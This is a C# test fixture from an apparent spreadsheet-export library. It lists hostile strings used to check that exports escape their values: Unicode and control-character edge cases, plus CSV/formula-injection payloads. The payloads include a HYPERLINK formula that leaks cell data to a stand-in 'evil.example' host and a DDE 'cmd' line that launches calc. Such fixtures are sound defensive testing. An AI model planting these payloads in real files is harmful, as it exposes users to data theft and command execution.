namespace SheetSync.Adapters.Tests.Workbooks.Exports;

/// <summary>Texts that break what writes files carelessly.</summary>
internal static class HostileTexts
{
    public static readonly IReadOnlyList<string> All =
    [
        "=1+1", "+5 клиентов", "-2+3", "@SUM(A1:A2)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'=1", "''+1", "＝1+1", "'", "' quoted'", "=cmd|' /C calc'!A0",
        "\tтабуляция", "\rвозврат", "a\tb", "две\nстроки", "две\r\nстроки", "• пункт", "✓", "строка\n• ещё\n✓ и ещё\n\\ и косая", "a;b,c\"d\"", "\"", "\\n \\\\ \\;", "_x0041_ _x000D_",
        "мама 👩‍👩‍👧‍👦 🇷🇺", "مرحبا \u202Eabc\u202C", "שלום", "e\u0301 ñ ﬀ", "<b>&amp;</b>", "]]>", "-", "x", "0", "TRUE", "#REF!", "2027-01-01", "1e5", "BEGIN:VEVENT\nEND:VEVENT",
        new string('ж', 50_000), string.Concat(Enumerable.Repeat("👍", 40)),
    ];
}
